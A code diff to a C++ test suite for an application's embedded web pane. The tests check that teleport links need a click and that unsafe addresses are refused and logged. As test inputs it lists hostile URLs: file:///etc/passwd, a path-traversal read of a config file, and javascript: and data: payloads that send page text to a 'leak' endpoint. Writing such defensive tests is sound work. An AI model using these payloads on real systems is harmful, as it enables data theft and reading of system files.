@@ -2,8 +2,10 @@
 // pending addresses, the menu items, the hand-off to the desktop's browser; and the help
 // topics read from their file.
 #include <algorithm>
+#include <cstring>
 
 #include "client/core/dialog.h"
+#include "client/shell/console.h"
 #include "client/servers/prompt.h"
 #include "tests/web/web_fixture.h"
 
@@ -77,6 +79,96 @@ TEST_F(WebPane, FollowingATeleportLinkTeleportsAndTheNavigationIsCancelled) {
   EXPECT_EQ(0, web_event(WEB_BEFORE_NAVIGATE, "http://127.0.0.1:8000/cgi-bin/teleport?far_1n_1w"));
   behavior_update();
   EXPECT_STREQ("far", teleport_waiting_name());
+
+  // The page's own script, redirect or frame moves no one; the person's click does.
+  teleport_reset_state();
+  for (int code : {WEB_BEFORE_PAGE_NAVIGATE, WEB_BEFORE_FRAME_NAVIGATE}) {
+    EXPECT_EQ(0, web_event(code, "http://127.0.0.1:8000/cgi-bin/teleport?far_77n_66e")) << code;
+    behavior_update();
+    EXPECT_EQ(nullptr, teleport_waiting_name()) << code;
+  }
+  EXPECT_EQ(0, web_event(WEB_BEFORE_CLICKED_NAVIGATE, "http://127.0.0.1:8000/cgi-bin/teleport?near_2n_3w"));
+  behavior_update();
+  EXPECT_STREQ("near", teleport_waiting_name());
+  EXPECT_STREQ("http://127.0.0.1:8000/demo/web/home.html", web_current_url());
+}
+
+// Whatever brings an address (an object's action, the world's home page, a sign's or an
+// object's address, a page's link, the person typing), only a web page reaches the pane and
+// only a web or news address the desktop; anything else is named once on the console.
+TEST_F(WebPane, OnlyWebAddressesFromOutsideAreFollowed) {
+  write_help("local.html", "<p>here</p>");
+  write_help("other.html", "<p>there</p>");
+  ASSERT_NO_FATAL_FAILURE(start());
+  ASSERT_NE(nullptr, browser);
+  console_init(nullptr);
+  const std::string secret = "file://" + dir + "/tessel.ini";
+  const char* refused[] = {
+      secret.c_str(), "file:///etc/passwd", "FILE:///etc/hostname", "/etc/hostname", "etc/hostname",
+      "javascript:void(location='http://127.0.0.1:1/leak?'+encodeURIComponent(document.body.innerText))",
+      "data:text/html,<script>location='http://127.0.0.1:1/leak'</script>", "http:/etc/passwd", "http:///etc/passwd",
+      "about:blank", "view-source:http://pages.example/", "http://pages.example/%zz", "--help"};
+  ScriptedDialogs dialogs;
+  for (const char* url : refused) {
+    browser->log.clear();
+    behavior_post((std::string("url ") + url).c_str());  // an object the person clicked
+    behavior_update();
+    world_hook.web_navigate(url, 1);                     // the world's home page
+    EXPECT_EQ(0, web_open_action(url)) << url;           // an object's address
+    EXPECT_EQ(0, web_navigate(url, 1)) << url;           // an object on its own
+    for (int code : {WEB_BEFORE_NAVIGATE, WEB_BEFORE_CLICKED_NAVIGATE, WEB_BEFORE_PAGE_NAVIGATE,
+                     WEB_BEFORE_FRAME_NAVIGATE})
+      EXPECT_EQ(0, web_event(code, url)) << url << " " << code;
+    // Typed: the usual reading makes a path a file address, which goes no further either.
+    if (url[0] == '/' || (std::strchr(url, ':') && std::strncmp(url, "http", 4) != 0)) {
+      dialogs.add(PROMPT_DIALOG, {[url](ScriptedView& v) {
+                                    v.type(PROMPT_EDIT, url);
+                                    v.press(DIALOG_OK);
+                                  }});
+      menu_handle(138);
+    }
+    EXPECT_TRUE(browser->log.empty()) << url << ": " << browser->log.front();
+    // One line names it, however often it came.
+    std::string console = console_text();
+    size_t at = console.find(std::string("m246:\t") + url);
+    EXPECT_NE(std::string::npos, at) << url << " in " << console;
+    if (at != std::string::npos) {
+      EXPECT_EQ(std::string::npos, console.find(std::string("m246:\t") + url, at + 1)) << url;
+    }
+  }
+  console_reset_for_test();
+  EXPECT_STREQ("", web_current_url());
+  EXPECT_EQ(0, web_is_busy());
+
+  // Web pages go on as written; a host typed alone is a web page.
+  browser->log.clear();
+  world_hook.web_navigate("HTTP://Pages.Example/home.html", 1);
+  behavior_post("url https://pages.example/a?b=1#c");
+  behavior_update();
+  dialogs.add(PROMPT_DIALOG, {[](ScriptedView& v) {
+                                v.type(PROMPT_EDIT, "pages.example/typed.html");
+                                v.press(DIALOG_OK);
+                              }});
+  menu_handle(138);
+  EXPECT_EQ((std::vector<std::string>{"navigate http://pages.example/home.html", "navigate https://pages.example/a?b=1#c",
+                                      "navigate http://pages.example/typed.html"}),
+            browser->log);
+  // A news address goes to the desktop at the person's word only.
+  EXPECT_EQ(0, web_navigate("news:tessel.chat", 1));
+  EXPECT_EQ(1, web_open_action("news:tessel.talk"));
+  EXPECT_EQ((std::vector<std::string>{"news:tessel.talk"}), opened_runs(1));
+
+  // Help pages reach each other; a web page reaches none of them.
+  const std::string local = "file://" + dir + "/help/local.html", other = "file://" + dir + "/help/other.html";
+  EXPECT_EQ(0, web_navigate(local.c_str(), 0));
+  EXPECT_EQ(1, web_event(WEB_BEFORE_PAGE_NAVIGATE, "http://pages.example/x.html"));
+  EXPECT_EQ(0, web_event(WEB_BEFORE_CLICKED_NAVIGATE, other.c_str()));
+  EXPECT_EQ(1, web_navigate_help(local.c_str()));
+  EXPECT_EQ("navigate " + local, browser->log.back());
+  EXPECT_EQ(1, web_event(WEB_BEFORE_NAVIGATE, local.c_str()));
+  EXPECT_EQ(1, web_event(WEB_BEFORE_CLICKED_NAVIGATE, other.c_str()));
+  EXPECT_EQ(0, web_event(WEB_BEFORE_CLICKED_NAVIGATE, ("file://" + dir + "/help/../tessel.ini").c_str()));
+  EXPECT_EQ(0, web_navigate_help("file:///etc/passwd"));
 }
 
 TEST_F(WebPane, TheMenuFollowsThePaneAndItsCommandsReachTheBrowser) {
@@ -143,8 +235,8 @@ TEST_F(WebPane, WithoutABrowserControlAddressesGoToTheDesktopsBrowser) {
   EXPECT_EQ(0, web_visible());
 
   EXPECT_EQ(0, web_navigate("", 0));
-  EXPECT_EQ(1, web_navigate("http://pages.example/a b", 1));  // kept, not handed out
-  EXPECT_STREQ("http://pages.example/a b", web_current_url());
+  EXPECT_EQ(1, web_navigate("http://pages.example/kept.html", 1));  // kept, not handed out
+  EXPECT_STREQ("http://pages.example/kept.html", web_current_url());
   EXPECT_EQ(1, web_navigate("http://pages.example/one.html", 0));
   EXPECT_EQ(1, web_navigate("NEWS:tessel.chat", 0));
   // An object's action text that is an address goes the same way; others do not.
@@ -160,8 +252,8 @@ TEST_F(WebPane, WithoutABrowserControlAddressesGoToTheDesktopsBrowser) {
   // Each run is a process of its own: they may finish in any order.
   std::vector<std::string> runs = opened_runs(3);
   std::sort(runs.begin(), runs.end());
-  EXPECT_EQ((std::vector<std::string>{"NEWS:tessel.chat", "http://pages.example/one.html",
-                                      "https://pages.example/two.html?a=1&b=2"}),
+  EXPECT_EQ((std::vector<std::string>{"http://pages.example/one.html", "https://pages.example/two.html?a=1&b=2",
+                                      "news:tessel.chat"}),
             runs);
 }
 
